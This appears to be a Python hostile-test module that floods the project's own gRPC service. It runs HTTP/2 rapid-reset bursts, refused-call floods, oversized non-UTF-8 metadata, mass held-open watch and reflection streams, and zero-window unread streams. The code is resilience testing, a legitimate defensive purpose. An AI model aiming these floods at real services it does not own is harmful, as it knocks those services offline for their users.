"""Attacks by the number of calls, and by calls that are not read."""

import asyncio
import itertools
from collections.abc import Callable

from grpc_health.v1 import health_pb2
from grpc_reflection.v1alpha import reflection_pb2

from benchmarks.h2 import End, request
from generated.generation.v1 import generation_pb2 as pb
from tests.hostile.frames import (
    Deaf,
    Sender,
    Stream,
    comes_true,
    half_open,
    header,
    headers,
    pieces,
    reset_call,
)
from tests.hostile.target import SERVICE, Outcome, Target, calling, imagen4
from tests.support.prompts import STUCK_PROMPT

HEALTH_WATCH = "/grpc.health.v1.Health/Watch"
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
STREAMS_PER_CONNECTION = 900  # a well-behaved client's
OPENING_SECONDS = 20.0
CALLS_AT_ONCE = 150  # of a connection
RESETS_PER_SECOND = 130_000  # over all connections: more than one server takes
BURST = 200
METADATA_BYTES = 7_000  # gRPC's core drops some calls with more than 8 KiB

Frames = Callable[[int], bytes]


# --- calls that end at once ---


async def reset_calls(target: Target) -> Outcome:
    """Start calls and reset them at once, for `seconds`, over `count` connections."""
    return await _reset(target, Deaf)


async def polite_resets(target: Target) -> Outcome:
    """Do the same, and acknowledge every ping, which delays the server's own limits."""
    return await _reset(target, Sender)


async def _reset(target: Target, kind: type[Sender]) -> Outcome:
    frames = reset_call(headers(target, SERVICE + "QueryTask"))

    async def flood() -> int:
        connection, sent = await kind.connect(target), 0
        while loop.time() < end:
            if connection.is_closed:
                connection = await kind.connect(target)
            burst = b"".join(frames(connection.next_stream()) for _ in range(BURST))
            await connection.send(burst)
            sent += BURST
            ahead = sent * target.count / RESETS_PER_SECOND - (loop.time() - begun)
            await asyncio.sleep(max(0, ahead))
        return sent

    loop = asyncio.get_running_loop()
    begun = loop.time()
    end = begun + target.seconds
    sent = await asyncio.gather(*(flood() for _ in range(target.count)))
    return {"calls": sum(sent)}


async def refused_calls(target: Target) -> Outcome:
    """Make calls that are refused, for `seconds`, over `count` connections."""
    missing = pb.QueryTaskRequest(task_id="x" * 100).SerializeToString()
    methods = ("QueryTask", "WatchTask", "CancelTask")
    blocks = [headers(target, SERVICE + method) for method in methods]
    frames = itertools.cycle([request(block, missing) for block in blocks])
    loop = asyncio.get_running_loop()
    end = loop.time() + target.seconds
    made = 0

    class Again(Stream):
        """A call that starts the next one when it ends."""

        def __init__(self, connection: Sender) -> None:
            super().__init__()
            self._connection = connection

        def ended(self, _end: End, now: float) -> None:
            nonlocal made
            made += 1
            if now < end:
                self._connection.call(next(frames), Again(self._connection))

    connections = [await Sender.connect(target) for _ in range(target.count)]
    for connection in connections:
        for _ in range(CALLS_AT_ONCE):
            connection.call(next(frames), Again(connection))
        connection.flush()
    await asyncio.sleep(target.seconds)
    return {"calls": made}


async def unreadable_metadata(target: Target) -> Outcome:
    """Make `count` calls with 7 KB of metadata that is not UTF-8."""
    block = headers(target, SERVICE + "QueryTask") + header(b"x", b"\xff" * METADATA_BYTES)
    frames = request(block, pb.QueryTaskRequest(task_id="x").SerializeToString())
    connection = await Sender.connect(target)
    calls = [Stream() for _ in range(target.count)]
    for call in calls:
        connection.call(frames, call)
    connection.flush()
    await comes_true(lambda: not any(call.is_open for call in calls), OPENING_SECONDS)
    return {"unanswered": sum(call.is_open for call in calls)}


# --- calls that stay ---


async def health_watches(target: Target) -> Outcome:
    """Open `count` streams of Health.Watch."""
    message = health_pb2.HealthCheckRequest().SerializeToString()
    return await _hold(target, request(headers(target, HEALTH_WATCH), message))


async def reflections(target: Target) -> Outcome:
    """Open `count` streams of reflection, and ask one thing on each."""
    return await _hold(target, half_open(headers(target, REFLECTION), _reflection_request()))


async def task_watches(target: Target) -> Outcome:
    """Open `count` watches of a task that takes long."""
    return await _hold(
        target, request(headers(target, SERVICE + "WatchTask"), await _watch(target))
    )


async def unread_streams(target: Target) -> Outcome:
    """Open a stream of each kind, and a few calls, over a connection whose windows stay shut."""
    connection = await Sender.connect(target, window_bytes=0)
    watch = await _watch(target) if target.token else b""
    listing = pb.ListTasksRequest().SerializeToString()
    health = health_pb2.HealthCheckRequest().SerializeToString()
    calls: list[Frames] = [
        request(headers(target, HEALTH_WATCH), health),
        half_open(headers(target, REFLECTION), _reflection_request()),
        request(headers(target, SERVICE + "WatchTask"), watch),
        request(headers(target, SERVICE + "QueryTask"), watch),
        request(headers(target, SERVICE + "ListTasks"), listing),
    ]
    for _ in range(target.count):
        for frames in calls:
            connection.call(frames, Stream())
    connection.flush()
    await asyncio.sleep(target.seconds)
    return {}


async def _hold(target: Target, frames: Frames) -> Outcome:
    """Open streams, and keep them; return how many the service serves at the end."""
    streams = []
    for count in pieces(target.count, STREAMS_PER_CONNECTION):
        connection = await Sender.connect(target)
        opened = [Stream() for _ in range(count)]
        for stream in opened:
            connection.call(frames, stream)
        connection.flush()
        streams += opened
        await asyncio.sleep(0)
    await comes_true(lambda: all(s.messages or not s.is_open for s in streams), OPENING_SECONDS)
    await asyncio.sleep(target.seconds)
    return {"served": sum(stream.is_served for stream in streams)}


async def _watch(target: Target) -> bytes:
    """Create a task that takes long, and return the request that watches it."""
    async with calling(target) as calls:
        task_id = await calls.create(imagen4(STUCK_PROMPT))
    return pb.WatchTaskRequest(task_id=task_id or "").SerializeToString()


def _reflection_request() -> bytes:
    asked = reflection_pb2.ServerReflectionRequest(list_services="*")
    data: bytes = asked.SerializeToString()
    return data
